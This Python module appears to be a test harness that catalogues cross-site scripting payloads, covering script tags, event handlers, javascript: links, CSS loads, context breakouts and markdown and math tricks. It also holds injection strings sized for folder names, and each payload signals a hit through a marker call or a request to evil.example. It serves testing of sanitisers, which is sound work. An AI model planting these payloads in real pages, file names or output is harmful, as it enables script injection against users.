"""Markup that does something in a browser, and how one sees that it did.

A payload that runs leaves a mark on the outermost page, or asks a server for /hit/…; both say which payload it was, and
where it stood. None looks like another, so that one defence cannot hide behind the next.
"""

from dataclasses import dataclass

HOST = "http://evil.example"


@dataclass(frozen=True)
class Payload:
    """``form`` has {js} and {url} in it; ``runs`` is False if a browser of today does nothing about it."""

    name: str
    form: str
    runs: bool = True

    def at(self, place):
        """The text to plant at a place, a word of letters and digits."""
        return self.form.replace("{js}", mark(place, self)).replace("{url}", f"{HOST}/hit/{place}-{self.name}")


def mark(place, payload):
    """A short statement that leaves a mark; without a slash, which no file's name can hold."""
    return f"top.o('{place}-{payload.name}')"


PAYLOADS = [
    Payload("script", "<script>{js}</script>"),
    Payload("script-case", "<ScRiPt >{js}</sCrIpT >"),
    Payload("script-src", '<script src="{url}"></script>'),
    Payload("script-broken", "<scr<script>ipt>{js}</script>", runs=False),
    Payload("img", "<img src=x onerror={js}>"),
    Payload("img-slash", '<img/src="x"/onerror="{js}">'),
    Payload("img-remote", '<img src="{url}">'),
    Payload("img-srcset", '<img srcset="{url} 1x">'),
    Payload("svg", "<svg onload={js}>"),
    Payload("svg-script", "<svg><script>{js}</script></svg>"),
    Payload("svg-style", '<svg><style><img src=x onerror="{js}"></style></svg>'),
    Payload("svg-animate", '<svg><animate onbegin="{js}" attributeName="x" dur="1s"></animate></svg>'),
    Payload("svg-link", '<svg><a href="javascript:{js}"><text y="20">x</text></a></svg>'),
    Payload("math-link", '<math><mtext><a href="javascript:{js}">x</a></mtext></math>'),
    Payload(
        "math-style",
        '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>',
        runs=False,
    ),
    Payload("details", '<details open ontoggle="{js}">x</details>'),
    Payload("input", '<input autofocus onfocus="{js}">'),
    Payload("click", '<b onclick="{js}">x</b>'),
    Payload("link", '<a href="javascript:{js}">x</a>'),
    Payload("link-case", '<a href="JaVaScRiPt:{js}">x</a>'),
    Payload("link-entities", '<a href="&#106;avascript&colon;{js}">x</a>'),
    Payload("link-tab", '<a href="java\tscript:{js}">x</a>'),
    Payload("button", '<button onclick="{js}">x</button>'),
    Payload("iframe", '<iframe src="{url}"></iframe>'),
    Payload("iframe-js", '<iframe src="javascript:{js}"></iframe>'),
    Payload("iframe-doc", '<iframe srcdoc="<script>{js}</script>"></iframe>'),
    Payload("object", '<object data="{url}"></object>'),
    Payload("embed", '<embed src="{url}">'),
    Payload("video", '<video poster="{url}"><source onerror="{js}" src="x"></video>'),
    Payload("audio", '<audio src="x" onerror="{js}"></audio>'),
    Payload("refresh", '<meta http-equiv="refresh" content="0;url={url}">'),
    Payload("base", '<base href="{url}/"><img src="x">'),
    Payload("form", '<form action="{url}" id="f"></form><svg onload="document.forms[0].submit()">'),
    Payload("stylesheet", '<link rel="stylesheet" href="{url}">'),
    Payload("import", '<style>@import "{url}";</style>'),
    Payload("css-url", '<div style="background:url({url})">x</div>'),
    Payload("css-escaped", '<div style="background:u\\72l({url})">x</div>'),
    Payload("css-rule", '<style>body{background:url("{url}")}</style>'),
    Payload("overlay", '<div style="position:fixed;inset:0;z-index:99999;background:url({url})">x</div>'),
    Payload("out-of-pre", "</code></pre></div><script>{js}</script>"),
    Payload("out-of-script", "</script><script>{js}</script>"),
    Payload("out-of-style", "</style><script>{js}</script>"),
    Payload("out-of-title", "</title><script>{js}</script>"),
    Payload("out-of-textarea", "</textarea><script>{js}</script>"),
    Payload("out-of-comment", "--><script>{js}</script><!--"),
    Payload("out-of-cdata", "]]><script>{js}</script>"),
    Payload("out-of-double", '"><img src=x onerror={js}>'),
    Payload("out-of-single", "'><img src=x onerror={js}>"),
    Payload("template", "{{ '<img src=x onerror={js}>' }}{% raw %}<img src=x onerror={js}>{% endraw %}"),
    Payload("noscript", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    Payload("markdown-link", "[x](javascript:{js})", runs=False),
    Payload("markdown-image", "![x]({url})", runs=False),
    Payload("markdown-attribute", '![x](x"onerror="{js})', runs=False),
    Payload("markdown-reference", "[x][y]\n\n[y]: javascript:{js}", runs=False),
    Payload("markdown-mermaid", "```mermaid\n</pre><img src=x onerror={js}>\n```"),
    Payload("math-script", "$$</script><script>{js}</script>$$"),
    Payload("math-tag", "$x<img src=x onerror={js}>y$"),
    Payload("math-begin", "\\begin{equation}<img src=x onerror={js}>\\end{equation}"),
    Payload("math-href", "$\\href{javascript:{js}}{x}$", runs=False),
    Payload("entities", "&lt;img src=x onerror={js}&gt;", runs=False),
    Payload("surrogate", "\ud800<\ud800script>{js}</script><img src=x onerror={js}>"),
    Payload("ansi", "\x1b]8;;javascript:{js}\x1b\\x\x1b]8;;\x1b\\ \x1b[31m<img src=x onerror={js}>\x1b[0m"),
]

# Without a slash: these fit into a folder's name.
NAMES = [
    Payload("name-img", "<img src=x onerror={js}>"),
    Payload("name-double", '"><img src=x onerror={js}>'),
    Payload("name-single", "'><img src=x onerror={js}>"),
    Payload("name-string", '";{js};"', runs=False),
    Payload("name-quote", "';{js};'", runs=False),
    Payload("name-template", "{{7*7}}<svg onload={js}>"),
    Payload("name-link", "javascript:{js}", runs=False),
    Payload("name-formula", "=HYPERLINK({js})", runs=False),
]
